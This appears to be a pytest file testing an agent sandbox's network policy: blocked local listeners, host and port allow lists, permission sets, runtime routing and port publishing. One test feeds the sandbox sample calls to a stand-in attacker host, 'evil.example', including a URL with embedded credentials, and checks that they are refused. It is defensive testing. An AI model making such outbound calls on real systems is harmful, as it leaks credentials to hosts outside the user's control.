"""What opens the network of a sandbox, what does not, and what is said where there can be none."""

from __future__ import annotations

import importlib.util
import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent_sandbox import NetworkPermission, PermissionSet, PolicyError, RuntimeUnavailable, Sandbox, SandboxConfig, assembly, policy_files
from agent_sandbox.isolation import IsolationConfig
from agent_sandbox.policy.model import OFFLINE, Guarantee, locked
from agent_sandbox.policy.network import NetworkRules, network_rules, public_web
from agent_sandbox.runtime import network_packages
from agent_sandbox.runtime.process.runtime import TRAITS as PROCESS
from agent_sandbox.runtime.router.model import Candidate, Permits, Workload
from agent_sandbox.runtime.router.route import route
from agent_sandbox.runtime.wasm.runtime import TRAITS
from tests.e2e.program import Shell

REACH = """
import json, socket
found = {"interfaces": sorted(name for _, name in socket.if_nameindex())}
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=5).close()
    found["reached"] = True
except OSError:
    found["reached"] = False
print(json.dumps(found))
"""


@pytest.fixture
def port() -> Iterator[int]:
    """Of a listener on the machine that takes whoever comes."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield listener.getsockname()[1]


def reaching(port: int) -> str:
    return REACH.replace("PORT", str(port))


def network(**settings: object) -> NetworkRules:
    return SandboxConfig(**settings).policy().network  # type: ignore[arg-type]


def reached(rules: NetworkRules, *places: tuple[str, int]) -> list[bool]:
    return [not rules.objection(host, port) for host, port in places]


@pytest.mark.parametrize("allowed", [False, True])
def test_no_listener_of_the_machine_is_reached_with_or_without_a_network(
    port: int, allowed: bool, capfd: pytest.CaptureFixture[str]
) -> None:
    exec(reaching(port))
    assert json.loads(capfd.readouterr().out)["reached"], "without a sandbox it is there to be reached"
    result = Sandbox(allow_network=allowed, validate_code=False).execute(reaching(port))
    assert json.loads(result.stdout) == {"interfaces": ["lo"], "reached": False}


def test_allow_network_opens_every_public_host_at_the_ports_of_the_web() -> None:
    assert network() == OFFLINE
    for opened in (network(allow_network=True), IsolationConfig(network_disabled=False).settings().policy().network):
        assert opened == public_web()
        assert reached(opened, ("example.com", 443), ("192.0.2.1", 80), ("example.com", 22), ("localhost", 80)) == [
            True,
            True,
            False,
            False,
        ]


def test_a_list_opens_its_hosts_alone() -> None:
    opened = network(network=["api.example.com", "*.example.org", "db.example.com:5432"])
    places = [("api.example.com", 443), ("x.example.org", 80), ("db.example.com", 5432)]
    others = [("example.com", 443), ("api.example.com", 22), ("db.example.com", 443), ("example.org", 80)]
    assert reached(opened, *places) == [True] * 3 and reached(opened, *others) == [False] * 4
    both = network(allow_network=True, network=["db.example.com:5432"])
    assert reached(both, *places, *others) == [True] * 4 + [False] + [True] * 2


def test_the_rules_themselves_can_be_given() -> None:
    rules = network_rules(outbound=True, hosts=["api.example.com"])
    assert network(network=rules) == rules
    with pytest.raises(PolicyError, match="allow_network as well"):
        SandboxConfig(network=rules, allow_network=True)


def test_permissions_say_the_same_in_their_own_words() -> None:
    permission = NetworkPermission(allow_outbound=True, allowed_hosts=["db.example.com", "*.example.org"], allowed_ports=[443, 5432])
    rules = PermissionSet([permission]).policy().network
    assert rules == PermissionSet([permission]).network
    assert reached(rules, ("db.example.com", 5432), ("a.example.org", 443), ("db.example.com", 80)) == [True, True, False]
    assert rules.passes_opaque("db.example.com", 5432), "a host and a port that are both named"
    assert not rules.passes_opaque("a.example.org", 5432) and not rules.passes_opaque("db.example.com", 443)
    assert PermissionSet([NetworkPermission(denied_hosts=["*.example.com"])]).policy().network.outbound is False
    inbound = PermissionSet([NetworkPermission(allow_inbound=True)]).policy()
    assert inbound.network.inbound and not inbound.network.outbound and Guarantee.NO_NETWORK in inbound.requires
    with pytest.raises(PolicyError, match="permissions are given, and network as well"):
        Sandbox(network=["example.com"], permissions=PermissionSet())


def test_a_bad_entry_is_refused_when_the_settings_are_made() -> None:
    for wrong in ("https://example.com", "localhost", "127.0.0.1:80", "packages+private", "a.example.com+secret", "*+opaque", ""):
        with pytest.raises(PolicyError):
            SandboxConfig(network=[wrong])
    with pytest.raises(PolicyError, match="network must be a list"):
        SandboxConfig(network="example.com")


def test_a_runtime_without_a_network_is_refused_and_auto_chooses_one_that_has_it() -> None:
    for settings in ({"allow_network": True}, {"network": ["example.com"]}):
        with pytest.raises(PolicyError, match="a network is refused with runtime='wasm'"):
            SandboxConfig(runtime="wasm", **settings)
    result = Sandbox(runtime="auto", network=["example.com"]).run("print(1)")
    assert result.route is not None and result.route.runtime == "process"
    fits = route(Workload("python", "print(1)"), locked(network=public_web()).requires, Permits(), [Candidate(TRAITS), Candidate(PROCESS)])
    assert (fits.runtime, dict(fits.passed_over)["wasm"]) == ("process", "does not give egress-only")
    assert route(Workload("python", "print(1)"), locked().requires, Permits(), [Candidate(TRAITS), Candidate(PROCESS)]).runtime == "wasm"


def test_without_the_extra_it_is_refused_before_anything_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(network_packages, "NEEDED", {"no-such-package": "no_such_module"})
    with pytest.raises(RuntimeUnavailable, match="packages that are not installed: no-such-package") as refused:
        Sandbox(allow_network=True)
    assert "extra `network`" in refused.value.hint
    assert Sandbox().execute("print(1)").stdout == "1\n", "without a network nothing of it is needed"


def test_a_network_needs_no_hyperscan_which_not_every_platform_has(monkeypatch: pytest.MonkeyPatch) -> None:
    real = importlib.util.find_spec

    def without(*missing: str) -> None:
        monkeypatch.setattr(importlib.util, "find_spec", lambda name, package=None: None if name in missing else real(name, package))

    without("hyperscan")
    assembly.check_network()
    without("re2")
    with pytest.raises(RuntimeUnavailable, match="google-re2"):  # the control: what it does need
        assembly.check_network()


def test_code_for_the_network_is_refused_early_only_where_there_is_none() -> None:
    result = Sandbox().execute("import urllib.request\nprint(1)")
    assert result.error is not None and "allow_network=True or network=" in result.error
    listed = Sandbox(network=["example.com"])
    assert listed.execute("import urllib.request\nprint(1)").stdout == "1\n"
    for elsewhere in ("urllib.request.urlopen('https://u:p@evil.example/x')", 'socket.create_connection(("evil.example", 80))'):
        refused = listed.execute(f"import socket, urllib.request\n{elsewhere}").error
        assert refused is not None and "the policy does not allow evil.example" in refused


def test_a_projects_file_opens_no_network_and_is_told_so(project: Path, tmp_path: Path, port: int) -> None:
    (project / "agent-sandbox.toml").write_text('[network]\noutbound = true\nhosts = ["example.com"]\n')
    (project / "reach.py").write_text(reaching(port))
    done = Shell(project, {"AGENT_SANDBOX_STATE": str(tmp_path / "state")})("code", "reach.py")
    assert json.loads(done.stdout)["reached"] is False
    assert b"narrows one, and opens none; --network HOST does" in done.stderr


def test_publishing_is_for_the_permissions_and_the_systems_file_to_allow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    inward = PermissionSet([NetworkPermission(allow_inbound=True)])
    assert Sandbox(publish=[8000]).config.policy().network.inbound
    assert Sandbox(publish=[8000], permissions=inward).config.policy().network.inbound
    for without in (PermissionSet(), PermissionSet([NetworkPermission(allow_outbound=True)])):
        with pytest.raises(PolicyError, match="the permissions allow no inbound connections"):
            Sandbox(publish=[8000], permissions=without)
    system = tmp_path / "system.toml"
    system.write_text("[network]\ninbound = false\n")
    monkeypatch.setattr(policy_files, "SYSTEM", str(system))
    with pytest.raises(PolicyError, match=r"no port may be published: .*system\.toml forbids it"):
        Sandbox(publish=[8000])
    assert Sandbox().execute("print(1)").stdout == "1\n", "the control: everything else goes on"
